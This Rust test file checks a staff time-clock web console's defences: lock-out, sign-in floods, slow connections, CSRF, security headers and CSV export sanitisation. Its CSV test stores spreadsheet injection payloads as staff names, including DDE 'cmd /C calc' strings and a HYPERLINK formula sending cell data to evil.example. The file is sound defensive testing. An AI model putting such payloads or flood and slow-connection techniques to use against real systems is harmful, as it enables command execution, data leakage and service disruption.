//! The web console under attack (issue 8, faults 2, 3, 4, 5 and 8), over real HTTP against the
//! real binary: parallel wrong passwords, a sign-in flood beside the door daemon, slow
//! connections, spreadsheet formulas in staff names, name enumeration and lock-out by a
//! stranger, and the smaller holes (sign-in CSRF, security headers, weak passwords, sessions,
//! link encoding, out-of-range dates, file paths shown to viewers).

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, TcpStream};
use std::process::Stdio;
use std::time::{Duration, Instant};

use reqwest::header::COOKIE;
use reqwest::{Client, StatusCode};

use super::console::{get, get_response, sign_in, Server, Site, PASSWORD};
use super::daemon::DoorWithConsole;
use super::web::{client, client_builder, login_token, post_login};

/// Sign-in rate limits out of the way, so that the lock-out itself is what answers.
const LENIENT: &str = "sign-ins-per-minute = 1000\n";

/// A client whose connections come from `ip` (any 127.0.0.0/8 address reaches the loopback).
fn client_from(ip: Ipv4Addr) -> Client {
    client_builder()
        .local_address(IpAddr::V4(ip))
        .build()
        .expect("http client")
}

/// Posts the sign-in form with a ready CSRF pair; the answer's status and body (418 and the
/// error when none came).
async fn try_login(
    c: &Client,
    base: &str,
    pair: &(String, String),
    name: &str,
    password: &str,
) -> (StatusCode, String) {
    match post_login(c, base, pair, name, password).await {
        Ok(r) => (r.status(), r.text().await.unwrap_or_default()),
        Err(e) => (StatusCode::IM_A_TEAPOT, e.to_string()),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue8_2_forty_parallel_wrong_passwords_lock_the_account_after_five() {
    let s = Server::start_with("http://127.0.0.1", |_| LENIENT.to_string());
    let c = client();
    let pair = login_token(&c, &s.base).await.expect("sign-in page");
    let mut set = tokio::task::JoinSet::new();
    for _ in 0..40 {
        let (c, base, pair) = (c.clone(), s.base.clone(), pair.clone());
        set.spawn(async move { try_login(&c, &base, &pair, "locky", "wrong-password").await });
    }
    let mut answers = Vec::new();
    while let Some(a) = set.join_next().await {
        answers.push(a.expect("a sign-in task").0);
    }
    let refused = answers
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    let busy = answers
        .iter()
        .filter(|s| **s == StatusCode::SERVICE_UNAVAILABLE)
        .count();
    assert_eq!(refused + busy, 40, "{answers:?}");
    assert!(refused > 5, "more than five were answered: {answers:?}");
    eprintln!("40 parallel wrong passwords: {refused} refused (401), {busy} busy (503)");
    // The right password is refused while the lock lasts.
    let (status, body) = sign_in(&s, "locky", PASSWORD)
        .await
        .expect_err("the account is locked");
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
    let admin = sign_in(&s, "admin", PASSWORD)
        .await
        .expect("admin signs in");
    let (_, audit) = get(&s, Some(&admin), "/audit").await;
    assert_eq!(
        audit.matches("account-locked").count(),
        1,
        "one lock, recorded once"
    );
}

/// VmHWM (peak resident memory) of a process, in MiB.
fn peak_mib(pid: u32) -> u64 {
    let text = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("proc status");
    text.lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .expect("VmHWM")
        / 1024
}

#[test]
fn issue8_3_a_sign_in_flood_leaves_memory_other_pages_and_the_door_alone() {
    let door = DoorWithConsole::new(
        &["0002", "0003"],
        ("0002", "0003"),
        10,
        &[("admin", "admin")],
    );
    let mut run = door.start();
    run.wait_for("  punch 000", false, Duration::from_secs(90));
    let base = door.base.clone();
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("runtime");
    let pid = run.child.id();
    let (baseline, punches_before, punches_during, mut probes, answers) = rt.block_on(async {
        let (session, _) = door.session("admin").await;
        let baseline = peak_mib(pid);
        let punches_before = run.punch_lines().len();
        let flooder = client_builder()
            .timeout(Duration::from_secs(180))
            .build()
            .expect("client");
        let pair = login_token(&flooder, &base).await.expect("sign-in page");
        let mut set = tokio::task::JoinSet::new();
        for i in 0..60 {
            let (c, base, pair) = (flooder.clone(), base.clone(), pair.clone());
            set.spawn(async move {
                try_login(&c, &base, &pair, &format!("nobody{i}"), "wrong-password-x").await
            });
        }
        // An unrelated signed-in page, while the flood runs.
        tokio::time::sleep(Duration::from_millis(300)).await;
        let probe = client();
        let mut probes = Vec::new();
        for _ in 0..5 {
            let t = Instant::now();
            let r = probe
                .get(format!("{base}/staff"))
                .header(COOKIE, &session)
                .send()
                .await
                .expect("the staff page answers");
            assert_eq!(r.status(), StatusCode::OK);
            let _ = r.text().await;
            probes.push(t.elapsed());
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        let mut answers = Vec::new();
        while let Some(a) = set.join_next().await {
            answers.push(a.expect("a flood task").0);
        }
        let punches_during = run.punch_lines().len() - punches_before;
        (baseline, punches_before, punches_during, probes, answers)
    });
    let peak = peak_mib(pid);
    probes.sort();
    let median = probes[probes.len() / 2];
    eprintln!(
        "flood: memory {baseline} MiB before, {peak} MiB peak; /staff {probes:?} (median {median:?}); \
         punches {punches_before} before, {punches_during} during; answers {answers:?}"
    );
    assert!(peak < 300, "peak memory {peak} MiB");
    assert!(median < Duration::from_millis(100), "{probes:?}");
    assert!(punches_during > 0, "the door kept punching");
    assert!(
        answers.iter().all(|s| [
            StatusCode::UNAUTHORIZED,
            StatusCode::SERVICE_UNAVAILABLE,
            StatusCode::TOO_MANY_REQUESTS
        ]
        .contains(s)),
        "{answers:?}"
    );
    run.stop_cleanly();
}

#[test]
fn issue8_3_slow_and_idle_connections_are_closed_within_the_timeouts() {
    let s = Server::start_with("http://127.0.0.1", |_| {
        "header-timeout-secs = 2\nrequest-timeout-secs = 4\n".to_string()
    });
    let port: u16 = s
        .base
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("port");
    let rt = super::runtime();
    // Serving (not only listening): the timeouts count from a connection's acceptance.
    rt.block_on(async {
        assert_eq!(get(&s, None, "/login").await.0, StatusCode::OK);
    });
    let started = Instant::now();
    let mut handles = Vec::new();
    for kind in 0..6 {
        handles.push(std::thread::spawn(move || {
            let mut c = TcpStream::connect(("127.0.0.1", port)).expect("connects");
            c.set_read_timeout(Some(Duration::from_millis(500)))
                .expect("timeout");
            let t = Instant::now();
            let mut buf = [0u8; 4096];
            let mut trickle = 0usize;
            match kind % 3 {
                // Headers, a byte at a time.
                0 => {
                    let _ = c.write_all(b"GET /login HTTP/1.1\r\nHost: x\r\n");
                }
                // A body announced and never sent.
                1 => {
                    let _ = c.write_all(
                        b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nname=",
                    );
                }
                // Nothing at all.
                _ => {}
            }
            loop {
                if t.elapsed() > Duration::from_secs(40) {
                    return None;
                }
                match c.read(&mut buf) {
                    Ok(0) => return Some(t.elapsed()),
                    Ok(_) => {}
                    Err(e)
                        if e.kind() == std::io::ErrorKind::WouldBlock
                            || e.kind() == std::io::ErrorKind::TimedOut => {}
                    Err(_) => return Some(t.elapsed()),
                }
                if kind % 3 != 2 {
                    trickle += 1;
                    let byte: &[u8] = if kind % 3 == 0 { b"X" } else { b"a" };
                    if c.write_all(byte).is_err() {
                        return Some(t.elapsed());
                    }
                }
                let _ = trickle;
            }
        }));
    }
    let closed: Vec<Option<Duration>> = handles
        .into_iter()
        .map(|h| h.join().expect("a slow client"))
        .collect();
    eprintln!("slow connections closed after {closed:?}");
    for (kind, c) in closed.iter().enumerate() {
        let after = c.expect("closed by the server");
        // Headers (and an idle connection): 2 s; a body: the 4 s request limit.
        let limit = if kind % 3 == 1 { 4 } else { 2 };
        assert!(
            after < Duration::from_millis(limit * 1000 + 1500),
            "connection {kind}: {closed:?}"
        );
    }
    assert!(started.elapsed() < Duration::from_secs(8));
    // And the console still answers.
    rt.block_on(async {
        assert_eq!(get(&s, None, "/login").await.0, StatusCode::OK);
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue8_4_formulas_in_staff_names_are_neutralised_in_the_csv() {
    let s = Server::start_at("2026-11-20T02:00:00Z");
    let names = [
        ("0101", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ("0102", "+cmd|' /C calc'!A0"),
        ("0103", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("0104", "-2+3+cmd|' /C calc'!A0"),
        ("0105", "\tTAB=1"),
    ];
    s.staff_add(&names);
    let admin = sign_in(&s, "admin", PASSWORD).await.expect("admin");
    for path in [
        "/report?month=2026-11&format=csv",
        "/report/day?date=2026-11-19&format=csv",
        "/report/year?year=2026&format=csv",
    ] {
        let (status, body) = get(&s, Some(&admin), path).await;
        assert_eq!(status, StatusCode::OK, "{path}: {body}");
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(body.as_bytes());
        let mut seen = 0;
        for rec in r.records() {
            let rec = rec.expect("a csv record");
            for cell in rec.iter() {
                let first = cell.chars().next();
                let numeric = cell.parse::<f64>().is_ok();
                // A staff id kept as text for Excel (issue 12): `="0101"`, digits only inside.
                let id_as_text = cell
                    .strip_prefix("=\"")
                    .and_then(|c| c.strip_suffix('"'))
                    .is_some_and(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit()));
                assert!(
                    numeric
                        || id_as_text
                        || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                    "{path}: cell {cell:?} would be a formula"
                );
                if names.iter().any(|(_, n)| cell == format!("'{n}")) {
                    seen += 1;
                }
            }
        }
        assert_eq!(seen, names.len(), "{path}: every name, quoted:\n{body}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue8_5_a_stranger_cannot_lock_the_admin_out_and_every_failure_answers_alike() {
    let s = Server::start_with("http://127.0.0.1", |_| LENIENT.to_string());
    let stranger = client_from(Ipv4Addr::new(127, 0, 0, 2));
    let pair = login_token(&stranger, &s.base).await.expect("sign-in page");
    let mut wrong = Vec::new();
    for _ in 0..7 {
        wrong.push(try_login(&stranger, &s.base, &pair, "admin", "not-the-password").await);
    }
    // The stranger's admin is locked now: it answers as an unknown name does, as slowly.
    let timed = |name: &'static str| {
        let (stranger, base, pair) = (stranger.clone(), s.base.clone(), pair.clone());
        async move {
            let mut times = Vec::new();
            let mut answer = None;
            for _ in 0..3 {
                let t = Instant::now();
                let a = try_login(&stranger, &base, &pair, name, "not-the-password").await;
                times.push(t.elapsed());
                answer = Some(a);
            }
            times.sort();
            (answer.expect("an answer"), times[1])
        }
    };
    let (locked, locked_time) = timed("admin").await;
    let (unknown, unknown_time) = timed("no-such-user").await;
    eprintln!("locked answers in {locked_time:?}, an unknown name in {unknown_time:?}");
    assert_eq!(locked.0, StatusCode::UNAUTHORIZED);
    assert_eq!(locked, unknown, "the same answer");
    for (status, body) in &wrong {
        assert_eq!((*status, body), (unknown.0, &unknown.1), "the same answer");
    }
    let ratio = locked_time.as_secs_f64() / unknown_time.as_secs_f64();
    assert!(
        (0.33..3.0).contains(&ratio),
        "locked {locked_time:?} vs unknown {unknown_time:?}"
    );
    // The admin, from their own address, signs in.
    sign_in(&s, "admin", PASSWORD)
        .await
        .expect("the admin is not locked out by a stranger");
    // And the stranger stays locked out even with the right password.
    let (status, _) = try_login(&stranger, &s.base, &pair, "admin", PASSWORD).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue8_8_the_sign_in_form_needs_its_csrf_pair() {
    let s = Server::start();
    let c = client();
    let bare = c
        .post(s.url("/login"))
        .form(&[("name", "admin"), ("password", PASSWORD)])
        .send()
        .await
        .expect("answers");
    assert_eq!(bare.status(), StatusCode::FORBIDDEN);
    let (cookie, token) = login_token(&c, &s.base).await.expect("sign-in page");
    assert!(!cookie.is_empty() && token.len() == 64, "{cookie} {token}");
    let (other_cookie, _) = login_token(&c, &s.base).await.expect("sign-in page");
    let forged = post_login(&c, &s.base, &(other_cookie, token), "admin", PASSWORD)
        .await
        .expect("answers");
    assert_eq!(
        forged.status(),
        StatusCode::FORBIDDEN,
        "another pair's token"
    );
    sign_in(&s, "admin", PASSWORD).await.expect("with its pair");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue8_8_every_answer_carries_the_security_headers_and_downloads_are_not_cached() {
    let s = Server::start_at("2026-11-20T02:00:00Z");
    let admin = sign_in(&s, "admin", PASSWORD).await.expect("admin");
    for (path, cookie) in [
        ("/login", None),
        ("/staff", Some(admin.as_str())),
        ("/report?month=2026-11&format=csv", Some(admin.as_str())),
        ("/report?month=2026-11&format=xlsx", Some(admin.as_str())),
        ("/staff", None),
    ] {
        let r = get_response(&s, cookie, path).await;
        let h = |name: &str| {
            r.headers()
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_string()
        };
        assert!(
            h("content-security-policy").contains("default-src 'self'")
                && h("content-security-policy").contains("frame-ancestors 'none'"),
            "{path}: {:?}",
            r.headers()
        );
        assert_eq!(h("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(h("referrer-policy"), "no-referrer", "{path}");
        assert_eq!(h("cache-control"), "no-store", "{path}");
        assert_eq!(h("strict-transport-security"), "", "{path}: plain HTTP");
    }
}

#[test]
fn issue8_8_weak_passwords_are_refused_by_user_add_and_passwd() {
    let s = Server::start();
    for weak in [
        "12345678",
        "        ",
        "password123",
        "1234567890",
        "short-1",
    ] {
        for args in [
            &["user", "add", "--name", "weakling", "--role", "viewer"][..],
            &["user", "passwd", "--name", "admin"][..],
        ] {
            let mut child = s
                .hallclock()
                .args(args)
                .stdin(Stdio::piped())
                .stdout(Stdio::null())
                .stderr(Stdio::piped())
                .spawn()
                .expect("user runs");
            writeln!(child.stdin.take().expect("stdin"), "{weak}").expect("password written");
            let o = child.wait_with_output().expect("user ends");
            assert!(!o.status.success(), "{args:?} accepted {weak:?}");
            let err = String::from_utf8_lossy(&o.stderr);
            assert!(err.contains("password"), "{err}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue8_8_a_new_sign_in_ends_the_accounts_earlier_session() {
    let s = Server::start();
    let first = sign_in(&s, "admin", PASSWORD).await.expect("admin");
    assert_eq!(get(&s, Some(&first), "/staff").await.0, StatusCode::OK);
    let second = sign_in(&s, "admin", PASSWORD).await.expect("admin again");
    assert_eq!(get(&s, Some(&second), "/staff").await.0, StatusCode::OK);
    assert_eq!(
        get(&s, Some(&first), "/staff").await,
        (StatusCode::SEE_OTHER, "/login".to_string()),
        "the earlier session ended"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue8_8_download_links_are_url_encoded() {
    let s = Server::start_at("2026-11-20T02:00:00Z");
    let admin = sign_in(&s, "admin", PASSWORD).await.expect("admin");
    let (status, page) = get(&s, Some(&admin), "/report?month=2026-11&post=A%26B%20%23C").await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert!(
        page.contains("post=A%26B%20%23C&amp;format=csv"),
        "{}",
        &page[page.find("id=\"csv\"").unwrap_or(0)..][..300.min(page.len())]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue8_8_out_of_range_dates_are_a_400_with_a_message() {
    let s = Server::start_at("2026-11-20T02:00:00Z");
    let admin = sign_in(&s, "admin", PASSWORD).await.expect("admin");
    for path in [
        "/report/year?year=-9999",
        "/report/year?year=9999",
        "/report?month=-009999-01",
        "/report?month=9999-12",
        "/report/day?date=9999-12-31",
        "/report/day?date=-009999-01-01",
        "/calendar?staff=0001&month=9999-12",
        "/holidays?year=-9999",
        "/leave?month=9999-12",
        "/duty?month=-009999-01",
        "/meetings?month=9999-12",
        "/gaps?month=9999-12",
    ] {
        let (status, body) = get(&s, Some(&admin), path).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {body}");
        assert!(body.contains("expected"), "{path}: {body}");
    }
    assert_eq!(
        get(&s, Some(&admin), "/report/year?year=2026").await.0,
        StatusCode::OK
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue8_8_only_admins_see_file_paths_on_the_status_page() {
    let s = Server::start();
    let admin = sign_in(&s, "admin", PASSWORD).await.expect("admin");
    let viewer = sign_in(&s, "viewer1", PASSWORD).await.expect("viewer");
    let (status, admin_page) = get(&s, Some(&admin), "/status").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        admin_page.contains("found /") && admin_page.contains("hallclock.db"),
        "the admin sees the paths: {admin_page}"
    );
    let (status, viewer_page) = get(&s, Some(&viewer), "/status").await;
    assert_eq!(status, StatusCode::OK);
    assert!(viewer_page.contains("id=\"checks\""), "{viewer_page}");
    for path in ["found /", "hallclock.db", "free in", "libonnxruntime"] {
        assert!(!viewer_page.contains(path), "{path}: {viewer_page}");
    }
}
